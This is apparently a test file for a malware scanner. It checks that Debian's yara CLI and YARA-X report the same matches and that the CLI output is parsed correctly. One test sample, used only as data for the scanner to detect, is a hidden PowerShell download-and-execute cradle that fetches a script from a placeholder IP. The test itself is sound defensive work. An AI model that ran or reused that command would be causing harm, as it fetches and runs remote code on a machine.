/**
 * Big objects through Debian's yara: the same findings as YARA-X on the same bytes (rule,
 * metadata, tags, pattern offsets), and the CLI's output read right. Fails (never skips) when
 * /usr/bin/yara is missing: .ci/run installs it.
 */
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import os from 'node:os';
import { loadConfig } from '../config/load.ts';
import { eicar, initScanner, runScanner } from './testing.ts';
import { parseMeta, probeYaraCli, YaraOutputParser } from './yara-cli.ts';
import { RULES_DIR, compileRules, yaraScanner, type CompiledRules } from './yara.ts';

const cradle = Buffer.from("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\r\n");

describe('yara through the CLI', () => {
  let viaCli: CompiledRules & { cli?: unknown };
  let viaYaraX: CompiledRules;
  before(async () => {
    // from 1 byte: every object goes through the CLI
    viaCli = (await initScanner(yaraScanner, { config: loadConfig({ dataDir: os.tmpdir(), yaraCliFromBytes: 1 }, {}) })) as CompiledRules & { cli?: unknown };
    viaYaraX = (await initScanner(yaraScanner, { config: loadConfig({ dataDir: os.tmpdir(), yaraCliFromBytes: 0 }, {}) })) as CompiledRules;
  });

  test('Debian\'s yara accepts every bundled rule file', () => {
    assert.ok(probeYaraCli(compileRules([RULES_DIR]).files), 'install yara (see .ci/run)');
    assert.ok(viaCli.cli);
  });

  for (const [name, data] of [
    ['eicar.com', eicar()],
    ['cradle.ps1', cradle],
    ['clean.txt', Buffer.from('nothing to see here\n')],
  ] as const) {
    test(`${name}: the same findings as YARA-X`, async () => {
      const a = await runScanner(yaraScanner, data, { name, state: viaCli });
      const b = await runScanner(yaraScanner, data, { name, state: viaYaraX });
      assert.deepEqual(a.evidence, b.evidence);
      if (name !== 'clean.txt') assert.ok(a.evidence.length > 0, 'the sample matches something');
    });
  }

  test('metadata values: quoted text with escapes and commas, numbers, booleans', () => {
    assert.deepEqual(parseMeta('description="a \\"quoted\\", text, with commas",n=3,neg=-2,flag=true,off=false,hex="\\x41"'), {
      description: 'a "quoted", text, with commas',
      n: 3,
      neg: -2,
      flag: true,
      off: false,
      hex: 'A',
    });
  });

  test('output split across chunks: rules, tags, namespaces and pattern lines', () => {
    const p = new YaraOutputParser('/data/x y.bin');
    const text = 'R1 [t1,t2] [severity="malware"] /data/x y.bin\n0x10:4:$a\n0x20:5:$b\nns:R2 [] [] /data/x y.bin\n';
    for (let i = 0; i < text.length; i += 7) p.push(Buffer.from(text.slice(i, i + 7)));
    const m = p.end();
    assert.equal(m.length, 2);
    assert.deepEqual([m[0].ruleIdentifier, m[0].namespace, m[0].tags, m[0].meta], ['R1', 'default', ['t1', 't2'], { severity: 'malware' }]);
    assert.deepEqual(m[0].matches.map((x) => [x.identifier, x.offset, x.length]), [['$a', 16, 4], ['$b', 32, 5]]);
    assert.deepEqual([m[1].ruleIdentifier, m[1].namespace, m[1].matches.length], ['R2', 'ns', 0]);
  });
});
